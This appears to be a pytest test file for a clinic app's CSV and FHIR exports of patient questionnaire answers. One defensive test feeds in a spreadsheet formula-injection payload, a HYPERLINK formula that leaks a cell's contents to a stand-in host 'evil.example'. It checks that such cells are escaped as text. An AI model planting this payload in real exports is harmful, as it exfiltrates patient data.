"""Exports a clinic opens elsewhere: the CSV in a spreadsheet, FHIR in a patient record system."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
import sqlalchemy as sa

# fhir.resources 8 offers FHIR R5 at the top level and R4B and STU3 as
# subpackages, but no plain R4. R4B (4.3.0) changed other resources, not
# Questionnaire or QuestionnaireResponse, so its models check our R4 JSON.
from fhir.resources.R4B.questionnaireresponse import QuestionnaireResponse

from app.clinician.exports import questionnaire, questionnaire_response, submissions_csv
from app.extensions import db
from app.models import AnswerSet
from export_helpers import BASE_URL, HEADERS, VALUE_OF_TYPE, answers_of, by_link_id, read_csv
from journey_helpers import complete_all_sections, start, submit

pytestmark = pytest.mark.both_databases  # storage: runs on SQLite and PostgreSQL

BREAST = "breast-interstitial-laser-therapy"
LIVER = "liver-laser-ablation"
ABOUT_ANN = {
    "name": "Ann Example", "nhs_number": "943 476 5919", "companion": "yes",
    "interpreter": "yes", "language": "Welsh", "support_needs": "Large print, please",
}


def send(client) -> None:
    submit(client, "/check-answers", status=302)


def answer_sets(app) -> list[AnswerSet]:
    with app.app_context():
        return list(db.session.scalars(sa.select(AnswerSet).order_by(AnswerSet.id)))


def sent_answer_set(app, client, slug: str) -> AnswerSet:
    """A patient who answered everything, as complete_all_sections does, and sent it."""
    start(client, slug)
    complete_all_sections(client, slug, app)
    send(client)
    return answer_sets(app)[-1]


def export_rows(app) -> list[dict[str, str]]:
    return read_csv(submissions_csv(answer_sets(app), app.extensions["catalogue"]))


# CSV


def test_csv_starts_with_the_documented_headers(app, client):
    sent_answer_set(app, client, LIVER)
    text = submissions_csv(answer_sets(app), app.extensions["catalogue"])
    assert next(csv.reader(io.StringIO(text, newline=""))) == HEADERS


def test_csv_has_a_row_for_each_patient_with_what_a_clinician_looks_for(app):
    catalogue = app.extensions["catalogue"]
    for slug in (BREAST, LIVER):
        sent_answer_set(app, app.test_client(), slug)
    stored = answer_sets(app)
    rows = export_rows(app)
    assert len(rows) == 2

    for row, answer_set in zip(rows, stored):
        procedure = catalogue.get(answer_set.procedure_slug)
        questions = catalogue.questions_for(procedure)
        assert row["Reference"] == answer_set.reference
        assert row["Procedure"] == procedure.title
        assert row["Status"] == "Not reviewed" and row["Reviewed"] == ""
        assert row["Sent"] == answer_set.submitted_at.isoformat(timespec="seconds") + "Z"
        assert row["Information version"] == procedure.version
        assert (row["Name"], row["NHS number"], row["Appointment date"]) == ("Ann Example", "943 476 5919", "")
        assert (row["Interpreter"], row["Language"], row["Someone coming"]) == ("Yes", "Welsh", "Yes")
        assert row["Other support"] == "Large print, please"
        decision = (row["SURE score"], row["Leaning"], row["Who decides"])
        assert decision == ("3", "Not sure yet", "Together with my clinician")
        assert row["Most important questions"] == f"{questions[0].text} | Can my daughter come in with me?"
        assert row["Questions to ask"] == f"{questions[0].text} (note: My note about this) | {questions[-1].text}"
        assert row["Own questions"] == "Can my daughter come in with me?"
        assert row["Views and concerns"] == "I am worried about pain."
        assert row["Consent points to explain"] == procedure.consent_points[0].text
        assert row["What matters"] == "; ".join(f"{s.text}: Very important" for s in procedure.what_matters)


def test_csv_shows_when_an_answer_set_was_reviewed(app, client):
    sent_answer_set(app, client, BREAST)
    with app.app_context():
        answer_set = db.session.scalars(sa.select(AnswerSet)).one()
        answer_set.reviewed_at = datetime(2027, 3, 1, 9, 30, 5)
        db.session.commit()
    [row] = export_rows(app)
    assert (row["Status"], row["Reviewed"]) == ("Reviewed", "2027-03-01T09:30:05Z")


def test_csv_leaves_unanswered_cells_blank(app, client):
    start(client, LIVER)
    send(client)
    [row] = export_rows(app)
    for header in ("Name", "Interpreter", "Language", "Someone coming", "SURE score", "Leaning", "Who decides",
                   "Most important questions", "Questions to ask", "What matters", "Consent points to explain"):
        assert row[header] == "", header


@pytest.mark.parametrize("slug", [BREAST, LIVER])
def test_csv_cells_that_look_like_formulas_stay_text(app, client, slug):
    procedure = app.extensions["catalogue"].get(slug)
    start(client, slug)
    complete_all_sections(client, slug, app)
    submit(client, "/about-you", {**ABOUT_ANN, "name": "-2", "support_needs": "+1"}, status=302)
    submit(client, "/questions", {"own-0-text": "@SUM(A1)"}, status=302)
    submit(client, "/questions/most-important", {"top": ["own:0"]}, status=302)
    submit(client, "/what-matters", {
        **{f"rate_{s.id}": "quite" for s in procedure.what_matters},
        "views": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    }, status=302)
    send(client)
    [row] = export_rows(app)
    assert row["Name"] == "'-2"
    assert row["Other support"] == "'+1"
    assert row["Own questions"] == row["Most important questions"] == "'@SUM(A1)"
    assert row["Views and concerns"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    assert row["NHS number"] == "943 476 5919"  # ordinary text is untouched


@pytest.mark.parametrize("slug", [BREAST, LIVER])
def test_csv_keeps_newlines_commas_quotes_and_emoji_in_patient_text(app, client, slug):
    procedure = app.extensions["catalogue"].get(slug)
    views = 'First, the pain.\r\nThen "recovery", and getting home 😟 👍🏽'
    own = 'Can I drive, or "should" I get a lift?'
    start(client, slug)
    complete_all_sections(client, slug, app)
    submit(client, "/questions", {"own-0-text": own}, status=302)
    submit(client, "/questions/most-important", {"top": ["own:0"]}, status=302)
    submit(client, "/what-matters", {**{f"rate_{s.id}": "not" for s in procedure.what_matters}, "views": views},
           status=302)
    send(client)
    sent_answer_set(app, app.test_client(), slug)  # a second row after it, so a broken quote would show
    rows = export_rows(app)
    assert len(rows) == 2
    assert rows[0]["Views and concerns"] == views
    assert rows[0]["Own questions"] == own
    assert rows[1]["Views and concerns"] == "I am worried about pain."


# FHIR


@pytest.mark.parametrize("slug", [BREAST, LIVER])
def test_response_is_valid_fhir_and_cites_the_version_the_patient_saw(app, client, slug):
    catalogue = app.extensions["catalogue"]
    procedure = catalogue.get(slug)
    answer_set = sent_answer_set(app, client, slug)
    resource = questionnaire_response(answer_set, procedure, catalogue, BASE_URL)
    parsed = QuestionnaireResponse.model_validate(resource)
    assert parsed.status == "completed"
    assert parsed.questionnaire == f"{BASE_URL}/fhir/Questionnaire/{slug}|{answer_set.content_version}"
    assert (parsed.identifier.system, parsed.identifier.value) == (f"{BASE_URL}/fhir/reference", answer_set.reference)
    assert resource["authored"] == answer_set.submitted_at.isoformat(timespec="seconds") + "Z"


@pytest.mark.parametrize("slug", [BREAST, LIVER])
def test_every_answer_fits_the_question_it_answers(app, client, slug):
    catalogue = app.extensions["catalogue"]
    procedure = catalogue.get(slug)
    appointment = date.today() + timedelta(days=30)
    start(client, slug)
    complete_all_sections(client, slug, catalogue)
    submit(client, "/about-you", {**ABOUT_ANN, "appointment_date[day]": str(appointment.day),
                                  "appointment_date[month]": str(appointment.month),
                                  "appointment_date[year]": str(appointment.year)}, status=302)
    send(client)
    response = questionnaire_response(answer_sets(app)[0], procedure, catalogue, BASE_URL)
    asked = by_link_id(questionnaire(procedure, catalogue, BASE_URL)["item"])

    for link_id, item in by_link_id(response["item"]).items():
        assert link_id in asked, link_id
        question = asked[link_id]
        assert item["text"] == question["text"]
        if question["type"] == "group":
            assert item["item"] and "answer" not in item, link_id
            continue
        assert item["answer"], f"{link_id} has an empty answer list"
        assert len(item["answer"]) == 1 or question.get("repeats"), link_id
        for answer in item["answer"]:
            assert list(answer) == [VALUE_OF_TYPE[question["type"]]], link_id
            if question["type"] == "choice":
                assert answer["valueCoding"] in [o["valueCoding"] for o in question["answerOption"]], link_id
    assert answers_of(response)["about_you.appointment_date"] == [{"valueDate": appointment.isoformat()}]


@pytest.mark.parametrize("slug", [BREAST, LIVER])
def test_response_holds_what_the_patient_said(app, client, slug):
    catalogue = app.extensions["catalogue"]
    procedure = catalogue.get(slug)
    questions = catalogue.questions_for(procedure)
    response = questionnaire_response(sent_answer_set(app, client, slug), procedure, catalogue, BASE_URL)
    answers = answers_of(response)
    assert answers["about_you.name"] == [{"valueString": "Ann Example"}]
    assert answers["about_you.interpreter"][0]["valueCoding"]["display"] == "Yes"
    assert answers["about_you.language"] == [{"valueString": "Welsh"}]
    assert "about_you.appointment_date" not in answers  # left blank
    assert answers["about_procedure.read"] == answers["benefits_risks.read"] == [{"valueBoolean": True}]
    assert answers[f"questions.ask.{questions[0].id}"] == [{"valueBoolean": True}]
    assert answers[f"questions.ask.{questions[1].id}"] == [{"valueBoolean": False}]
    assert answers[f"questions.note.{questions[0].id}"] == [{"valueString": "My note about this"}]
    assert f"questions.note.{questions[-1].id}" not in answers  # chosen without a note
    assert answers["questions.top"] == [{"valueString": questions[0].text},
                                        {"valueString": "Can my daughter come in with me?"}]
    assert answers[f"consent.{procedure.consent_points[0].id}"][0]["valueCoding"]["code"] == "explain"
    assert answers["where_you_are.sure.sure"][0]["valueCoding"]["code"] == "no"
    assert answers["where_you_are.sure_score"] == [{"valueInteger": 3}]


def test_response_leaves_out_sections_the_patient_skipped(app, client):
    catalogue = app.extensions["catalogue"]
    procedure = catalogue.get(LIVER)
    start(client, LIVER)
    submit(client, "/about-you", {}, status=302)  # Continue with every box left empty
    submit(client, "/where-you-are", {
        "leaning": "have", "role": "myself", "sure_sure": "yes", "sure_understand": "yes",
        "sure_risk_benefit": "yes", "sure_encouragement": "yes",
    }, status=302)
    send(client)
    response = questionnaire_response(answer_sets(app)[0], procedure, catalogue, BASE_URL)
    QuestionnaireResponse.model_validate(response)
    assert [item["linkId"] for item in response["item"]] == ["where_you_are"]
    assert answers_of(response)["where_you_are.sure_score"] == [{"valueInteger": 4}]


def test_unsent_answers_have_no_response(app, client):
    catalogue = app.extensions["catalogue"]
    start(client, BREAST)
    complete_all_sections(client, BREAST, catalogue)
    answer_set = answer_sets(app)[0]
    with pytest.raises(ValueError, match="not been sent"):
        questionnaire_response(answer_set, catalogue.get(BREAST), catalogue, BASE_URL)
